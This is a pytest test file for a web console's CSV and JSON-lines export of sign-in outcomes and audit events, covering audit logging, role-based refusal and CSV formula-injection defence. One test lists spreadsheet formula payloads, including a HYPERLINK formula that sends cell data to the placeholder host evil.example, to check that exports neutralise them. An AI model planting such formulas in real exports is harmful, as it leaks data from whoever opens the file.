"""Sign-ins and audit events as files: whole, inert, recorded, and not for everybody."""

import csv
import io
import json
from datetime import timedelta
from pathlib import Path

import pytest
from tests.web.console.console_house import open_console
from tests.web.console.doorway_house import send, slip
from tests.web.console.records_at_hand import keep_event, keep_outcome
from tests.web.pages.pages_house import reason_of

from jitney.model.audit_event import Action
from jitney.model.outcome import OutcomeKind
from jitney.ports import EventFilter
from jitney.web.console.record_files import inert

pytestmark = pytest.mark.anyio

REFUSED = OutcomeKind.REFUSED
CSV, LINES = "CSV, for a spreadsheet", "JSON lines, for a program"


async def test_file_holds_what_fits_the_search_and_its_taking_is_recorded(tmp_path: Path) -> None:
    """Issue 7: the file has all that fit, and an audit event says who took it, and by which search."""
    async with open_console(tmp_path) as house:
        kept = [
            await keep_outcome(
                house, REFUSED, "name_taken", subject=f"s-{n}", idp="idp-acme", ago=timedelta(minutes=n)
            )
            for n in range(120)
        ]
        await keep_outcome(house, OutcomeKind.CREATED, "provisioned", subject="other")
        page = await house.get("/console/outcomes?result=refused&provider=acme")
        taken = await house.post(page, button=CSV)
        assert (200, "text/csv; charset=utf-8; header=present") == (
            taken.status,
            taken.response.headers["content-type"],
        )
        assert "attachment" in taken.response.headers["content-disposition"]
        rows = list(csv.DictReader(io.StringIO(taken.text, newline="")))
        assert [one.reference for one in kept] == [row["reference"] for row in rows]
        assert ("acme", "name_taken", "s-0") == (
            rows[0]["identity_provider"],
            rows[0]["reason"],
            rows[0]["subject"],
        )
        lines = [json.loads(line) for line in (await house.post(page, button=LINES)).text.splitlines()]
        assert [one.reference for one in kept] == [line["reference"] for line in lines]
        events = await house.house.doors.records.events_where(EventFilter(action=Action.RECORDS_EXPORTED))
        assert [f"operator:{house.people['root'].id}"] * 2 == [event.actor for event in events]
        assert {"format": "csv", "by_kind": "refused", "by_idp": "idp-acme"} == events[1].about
        assert "outcomes" == events[1].target


async def test_help_desk_takes_no_file(tmp_path: Path) -> None:
    """R-110: the help desk reads the lists and takes no file; the auditor, who changes nothing, takes one."""
    async with open_console(tmp_path) as house:
        await keep_outcome(house, REFUSED, "name_taken", subject="s-1")
        desk, auditor = await house.browser_of("desk"), await house.browser_of("audit")
        for here in ("/console/outcomes", "/console/audit"):
            page = await house.get(here, desk)
            assert (200, False, True) == (page.status, CSV in page.text, "cannot take files" in page.text)
            before = await house.pages.snapshot("spent_once")
            path = f"{here}/export/csv"
            refused = await send(desk, path, slip(house, desk, path, "desk"))
            assert (403, "export_not_allowed") == (refused.status, reason_of(refused))
            assert before == await house.pages.snapshot("spent_once")
            taken = await send(auditor, path, slip(house, auditor, path, "audit", number="another"))
            assert (200, None, True) == (taken.status, reason_of(taken), taken.text.startswith('"'))
        events = await house.house.doors.records.events_where(EventFilter(action=Action.RECORDS_EXPORTED))
        assert [f"operator:{house.people['audit'].id}"] * 2 == [event.actor for event in events]


async def test_unknown_form_of_file_is_no_address(tmp_path: Path) -> None:
    """R-110: a file is CSV or JSON lines; another form is nothing, and nothing is recorded."""
    async with open_console(tmp_path) as house:
        before = await house.pages.snapshot("spent_once")
        wrong = "/console/outcomes/export/xlsx"
        refused = await send(house.root, wrong, slip(house, house.root, wrong, "root"))
        assert (404, "page_unknown") == (refused.status, reason_of(refused))
        assert before == await house.pages.snapshot("spent_once")
        right = "/console/outcomes/export/csv"
        assert 200 == (await send(house.root, right, slip(house, house.root, right, "root"))).status


async def test_cell_that_would_be_calculated_is_inert(tmp_path: Path) -> None:
    """Issue 7: a subject that is a formula is a text in the file, and what is none stays as it is."""
    formulas = [
        '=HYPERLINK("https://evil.example?"&A1)',
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        " =1+1",
        "\uff1d1",
    ]
    async with open_console(tmp_path) as house:
        for number, formula in enumerate([*formulas, 'plain, "quoted"\r\nand broken']):
            await keep_outcome(house, REFUSED, "name_taken", subject=formula, ago=timedelta(minutes=number))
            await keep_event(house, Action.ROLE_ADDED, formula, f"role:{number}")
        page = await house.get("/console/outcomes?result=refused")
        rows = list(csv.DictReader(io.StringIO((await house.post(page, button=CSV)).text, newline="")))
        assert [*(f"'{one}" for one in formulas), 'plain, "quoted"\r\nand broken'] == [
            row["subject"] for row in rows
        ]
        audit = await house.post(await house.get("/console/audit?action=role.added"), button=CSV)
        actors = [row["actor"] for row in csv.DictReader(io.StringIO(audit.text, newline=""))]
        assert [f"'{one}" for one in reversed(formulas)] == actors[1:]
        lines = await house.post(page, button=LINES)
        assert [*formulas] == [json.loads(line)["subject"] for line in lines.text.splitlines()][
            : len(formulas)
        ]


async def test_export_of_an_impossible_search_is_refused_and_not_recorded(tmp_path: Path) -> None:
    """Issue 7: nothing is handed out, and nothing recorded, where the search names nobody."""
    async with open_console(tmp_path) as house:
        await keep_outcome(house, REFUSED, "name_taken", subject="s-1")
        page = await house.get("/console/outcomes?result=refused")
        before = await house.pages.snapshot("spent_once")
        refused = await house.post(page, {"provider": "nobody"}, button=CSV)
        assert (404, "identity_provider_not_found") == (refused.status, reason_of(refused))
        assert before == await house.pages.snapshot("spent_once")
        assert (
            200 == (await house.post(await house.get("/console/outcomes?result=refused"), button=CSV)).status
        )


@pytest.mark.parametrize("text", ["ada", "", "1-1", "a=b", "ÄÖ", "'=1"])
async def test_ordinary_cell_is_not_touched(text: str) -> None:
    """Issue 7: only what begins like a formula is changed."""
    assert text == inert(text)
